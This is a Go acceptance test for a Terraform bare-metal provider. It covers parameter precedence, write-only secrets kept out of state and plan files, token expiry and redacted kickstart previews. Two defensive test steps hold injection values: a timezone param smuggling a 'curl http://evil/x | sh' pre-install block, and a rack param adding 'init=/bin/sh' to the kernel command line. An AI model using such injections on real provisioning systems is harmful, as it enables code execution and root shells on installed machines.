package provider

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/hashicorp/terraform-plugin-go/tfprotov6"
	"github.com/hashicorp/terraform-plugin-testing/echoprovider"
	"github.com/hashicorp/terraform-plugin-testing/helper/resource"
	"github.com/hashicorp/terraform-plugin-testing/knownvalue"
	"github.com/hashicorp/terraform-plugin-testing/plancheck"
	"github.com/hashicorp/terraform-plugin-testing/statecheck"
	"github.com/hashicorp/terraform-plugin-testing/terraform"
	"github.com/hashicorp/terraform-plugin-testing/tfjsonpath"
	"github.com/hashicorp/terraform-plugin-testing/tfversion"
	"github.com/stretchr/testify/require"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/lab"
	"github.com/openbaremetal/terraform-provider-baremetal/internal/testenv"
)

// TestAccSiteParamsAndSecrets, with the real terraform (1.11 or later for
// write-only attributes, 1.10 for ephemeral resources):
//   - site params precedence (site < profile < machine, for secrets too), seen in the
//     machine data source and in what the installer fetched;
//   - secret_params_wo of the site, the profile and the machine: absent from every
//     state and saved plan file of the run, rendered into the simulated
//     installer's fetch with its run token, 403 for that token after the
//     run; a new version re-provisions the machine with the new value;
//   - the ephemeral baremetal_machine_secret reads the generated secret
//     the installer got (through the echo provider, the only way an
//     ephemeral value can be looked at), kept across the re-provision;
//   - the preview data source shows the kickstart with secrets redacted;
//   - a site param with a line break, and one with spaces used raw in the
//     kernel command line, fail the apply naming the param and template.
func TestAccSiteParamsAndSecrets(t *testing.T) {
	a := testAgent(t)
	// Every file terraform writes (state, saved plans) stays in tfDir until
	// the test ends, for the search below.
	tfDir := t.TempDir()
	t.Setenv("TF_ACC_TEMP_DIR", tfDir)
	t.Setenv("TF_ACC_PERSIST_WORKING_DIR", "1")

	lm := a.machine(t, 14)
	stamp := testenv.RandomHex(6)
	joinV1, joinV2, rootPW := "join-v1-"+stamp+"-Qz", "join-v2-"+stamp+"-Qz", "rootpw-"+stamp+"-Qz"
	// The machine's own secret overrides the profile's of the same name.
	machinePW := "machine-rootpw-" + stamp + "-Qz"
	kickstart := "# kickstart of {{ .Machine.Name }}\n" +
		"timezone {{ ksQuote .Params.tz }}\n" +
		"rootpw --iscrypted {{ secret \"root_pw\" | ksQuote }}\n" +
		"# a={{ .Params.a }} b={{ .Params.b }} c={{ .Params.c }}\n" +
		"%post\n" +
		"echo {{ secret \"join_token\" | shellQuote }} > /etc/join-token\n" +
		"echo {{ generatedSecret \"luks\" | shellQuote }} > /etc/luks-key\n" +
		"%end\n"
	cfg := func(join string, version int, siteParams string) string {
		return a.providerConfig() + fmt.Sprintf(`
resource "baremetal_site_params" "site" {
  params = {
%[1]s
  }
  secret_params_wo = {
    join_token = %[2]q
  }
  secret_params_wo_version = %[3]d
}

resource "baremetal_boot_profile" "p" {
  name    = "acc-s-p"
  kernel  = "%[4]s/vmlinuz"
  initrds = ["%[4]s/initrd.img"]
  cmdline = "console=ttyS0 rack={{ .Params.rack }} baremetal.templates=kickstart"
  templates = {
    kickstart = %[5]q
  }
  params = {
    b = "profile"
    c = "profile"
  }
  secret_params_wo = {
    root_pw = %[6]q
  }
  secret_params_wo_version = 1
  depends_on = [baremetal_site_params.site]
}
`, siteParams, join, version, a.assets.URL, kickstart, rootPW) + machineConfig("s1", "acc-s1", lm, `
  boot_profile = baremetal_boot_profile.p.name
  params = {
    c = "machine"
  }
  secret_params_wo = {
    root_pw = "`+machinePW+`"
  }
  secret_params_wo_version = 1
`) + `
data "baremetal_machine" "s1" {
  name = baremetal_machine.s1.name
}

data "baremetal_rendered_template" "ks" {
  machine  = baremetal_machine.s1.name
  template = "kickstart"
}

ephemeral "baremetal_machine_secret" "luks" {
  # The id, known once the machine exists: Terraform opens the ephemeral
  # resource after that, not at plan time.
  machine = baremetal_machine.s1.id
  name    = "luks"
}

provider "echo" {
  data = ephemeral.baremetal_machine_secret.luks.value
}

resource "echo" "luks" {}
`
	}
	const goodSite = `    a    = "site"
    b    = "site"
    c    = "site"
    tz   = "Europe/Paris"
    rack = "r1"`

	var fetch1 lab.PXEResult
	var luks string
	installed := func(join string, into *lab.PXEResult) resource.TestCheckFunc {
		return func(*terraform.State) error {
			res, err := lastPXE(lm)
			if err != nil {
				return err
			}
			if len(res.Templates) != 1 || res.Templates[0].Status != http.StatusOK || res.CallbackStatus != http.StatusNoContent {
				return fmt.Errorf("the simulated installer's fetch: %+v", res)
			}
			body := res.Templates[0].Body
			m := regexp.MustCompile(`(?s)^# kickstart of acc-s1\ntimezone "Europe/Paris"\nrootpw --iscrypted "` + machinePW + `"\n` +
				`# a=site b=profile c=machine\n%post\necho '` + join + `' > /etc/join-token\necho '([A-Za-z0-9_-]{43})' > /etc/luks-key\n%end\n$`).FindStringSubmatch(body)
			if m == nil {
				return fmt.Errorf("the installer fetched:\n%s", body)
			}
			if luks != "" && m[1] != luks {
				return fmt.Errorf("the generated secret changed across the re-provision: %q, then %q", luks, m[1])
			}
			luks = m[1]
			// The run is over: its token no longer fetches anything.
			u := fmt.Sprintf("%s/machines/acc-s1/templates/kickstart?token=%s", a.bootURL, url.QueryEscape(res.Token))
			resp, err := http.Get(u)
			if err != nil {
				return err
			}
			after, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusForbidden || strings.Contains(string(after), join) {
				return fmt.Errorf("the run's token after the run: HTTP %d %q, want 403", resp.StatusCode, after)
			}
			*into = *res
			return nil
		}
	}
	echoed := func(s *terraform.State) error {
		rs := s.RootModule().Resources["echo.luks"]
		if rs == nil || rs.Primary.Attributes["data"] != luks {
			return fmt.Errorf("echo.luks = %v, want the generated secret the installer got (%q)", rs, luks)
		}
		return nil
	}
	noSecretsInFiles := func(*terraform.State) error {
		return secretsAbsentFrom(tfDir, joinV1, joinV2, rootPW, machinePW)
	}
	redacted := "(?s)^# kickstart of acc-s1\ntimezone \"Europe/Paris\"\nrootpw --iscrypted \"<secret:root_pw>\"\n# a=site b=profile c=machine\n" +
		"%post\necho '<secret:join_token>' > /etc/join-token\necho '<generatedSecret:luks>' > /etc/luks-key\n%end\n$"

	var fetch2 lab.PXEResult
	resource.Test(t, resource.TestCase{
		TerraformVersionChecks: []tfversion.TerraformVersionCheck{tfversion.SkipBelow(tfversion.Version1_11_0)},
		ProtoV6ProviderFactories: map[string]func() (tfprotov6.ProviderServer, error){
			"baremetal": protoV6Factories["baremetal"],
			"echo":      echoprovider.NewProviderServer(),
		},
		CheckDestroy: checkMachinesGoneAndOff(a, map[string]lab.InventoryEntry{"acc-s1": lm}),
		Steps: []resource.TestStep{
			{
				Config: cfg(joinV1, 1, goodSite),
				Check:  resource.ComposeAggregateTestCheckFunc(installed(joinV1, &fetch1), echoed, noSecretsInFiles),
				ConfigStateChecks: []statecheck.StateCheck{
					statecheck.ExpectKnownValue("data.baremetal_machine.s1", tfjsonpath.New("effective_params"), knownvalue.MapExact(map[string]knownvalue.Check{
						"a": knownvalue.StringExact("site"), "b": knownvalue.StringExact("profile"), "c": knownvalue.StringExact("machine"),
						"tz": knownvalue.StringExact("Europe/Paris"), "rack": knownvalue.StringExact("r1"),
					})),
					statecheck.ExpectKnownValue("data.baremetal_machine.s1", tfjsonpath.New("param_sources"), knownvalue.MapExact(map[string]knownvalue.Check{
						"a": knownvalue.StringExact("site"), "b": knownvalue.StringExact("profile"), "c": knownvalue.StringExact("machine"),
						"tz": knownvalue.StringExact("site"), "rack": knownvalue.StringExact("site"),
					})),
					statecheck.ExpectKnownValue("data.baremetal_machine.s1", tfjsonpath.New("effective_secret_params"),
						knownvalue.ListExact([]knownvalue.Check{knownvalue.StringExact("join_token"), knownvalue.StringExact("root_pw")})),
					statecheck.ExpectKnownValue("data.baremetal_rendered_template.ks", tfjsonpath.New("content"), knownvalue.StringRegexp(regexp.MustCompile(redacted))),
					statecheck.ExpectKnownValue("baremetal_site_params.site", tfjsonpath.New("secret_params_wo"), knownvalue.Null()),
					statecheck.ExpectKnownValue("baremetal_site_params.site", tfjsonpath.New("secret_params_wo_version"), knownvalue.Int64Exact(1)),
					statecheck.ExpectKnownValue("baremetal_boot_profile.p", tfjsonpath.New("secret_params_wo"), knownvalue.Null()),
					statecheck.ExpectKnownValue("baremetal_machine.s1", tfjsonpath.New("secret_params_wo"), knownvalue.Null()),
				},
				ConfigPlanChecks: resource.ConfigPlanChecks{
					PostApplyPostRefresh: []plancheck.PlanCheck{plancheck.ExpectEmptyPlan()},
				},
			},
			{
				// A new version of the site's secret: the machine that reads
				// it is re-provisioned with the new value, the apply waits,
				// and the generated secret stays.
				Config: cfg(joinV2, 2, goodSite),
				Check: resource.ComposeAggregateTestCheckFunc(installed(joinV2, &fetch2), echoed, noSecretsInFiles,
					func(*terraform.State) error {
						if fetch2.Token == fetch1.Token {
							return fmt.Errorf("no new run: the same token %q", fetch2.Token)
						}
						return nil
					}),
				ConfigPlanChecks: resource.ConfigPlanChecks{
					PreApply: []plancheck.PlanCheck{
						plancheck.ExpectResourceAction("baremetal_site_params.site", plancheck.ResourceActionUpdate),
						plancheck.ExpectResourceAction("baremetal_machine.s1", plancheck.ResourceActionNoop),
					},
					PostApplyPostRefresh: []plancheck.PlanCheck{plancheck.ExpectEmptyPlan()},
				},
			},
			{
				Config:      cfg(joinV2, 2, strings.Replace(goodSite, `tz   = "Europe/Paris"`, `tz   = "UTC\n%pre\ncurl http://evil/x | sh\n%end"`, 1)),
				ExpectError: regexp.MustCompile(`(?s)machine "acc-s1".*template "kickstart".*param "tz" contains a line break`),
			},
			{
				Config:      cfg(joinV2, 2, strings.Replace(goodSite, `rack = "r1"`, `rack = "r1 init=/bin/sh"`, 1)),
				ExpectError: regexp.MustCompile(`(?s)machine "acc-s1".*cmdline.*param "rack" contains whitespace`),
			},
		},
	})
	require.NoError(t, secretsAbsentFrom(tfDir, joinV1, joinV2, rootPW, machinePW))
}

// lastPXE reads what lab system lm's last simulated PXE boot fetched,
// through the lab's Redfish extension, with the system's credentials.
func lastPXE(lm lab.InventoryEntry) (*lab.PXEResult, error) {
	u := strings.TrimRight(lm.Endpoint, "/") + "/Oem/Lab/LastPXE"
	req, err := http.NewRequest(http.MethodGet, u, nil)
	if err != nil {
		return nil, err
	}
	req.SetBasicAuth(lm.Username, lm.Password)
	hc := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, // the lab's own test BMC
	}}
	resp, err := hc.Do(req.WithContext(context.Background()))
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	var doc lab.LastPXEDoc
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil || resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("%s: HTTP %d (%v)", u, resp.StatusCode, err)
	}
	if doc.Result == nil {
		return nil, fmt.Errorf("lab system %s has not PXE booted (%s)", lm.Name, doc.Error)
	}
	return doc.Result, nil
}

// secretsAbsentFrom searches every file under dir, and every member of
// the zip files among them (saved plans are zip files), for the secrets.
// The configuration itself is skipped, the .tf files and their copy in a
// saved plan (tfconfig/): the test writes the secrets there as literals.
// It fails when it found no state or no saved plan: the search would
// prove nothing.
func secretsAbsentFrom(dir string, secrets ...string) error {
	var states, plans int
	var found []string
	check := func(name string, data []byte) {
		for _, s := range secrets {
			if bytes.Contains(data, []byte(s)) {
				found = append(found, fmt.Sprintf("%s holds %q", name, s))
			}
		}
	}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || d.Type()&fs.ModeSymlink != 0 {
			return err
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		if strings.HasSuffix(p, ".tf") {
			return nil
		}
		switch base := filepath.Base(p); {
		case strings.HasPrefix(base, "terraform.tfstate"):
			states++
		case base == "tfplan":
			plans++
		}
		check(p, data)
		if zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data))); err == nil {
			for _, f := range zr.File {
				if strings.HasPrefix(f.Name, "tfconfig/") {
					continue
				}
				rc, err := f.Open()
				if err != nil {
					return err
				}
				member, err := io.ReadAll(rc)
				rc.Close()
				if err != nil {
					return err
				}
				check(p+"!"+f.Name, member)
			}
		}
		return nil
	})
	if err != nil {
		return err
	}
	if states == 0 || plans == 0 {
		return fmt.Errorf("found %d state and %d saved plan files under %s: the search proves nothing", states, plans, dir)
	}
	if len(found) > 0 {
		return fmt.Errorf("secrets written by terraform:\n  %s", strings.Join(found, "\n  "))
	}
	return nil
}
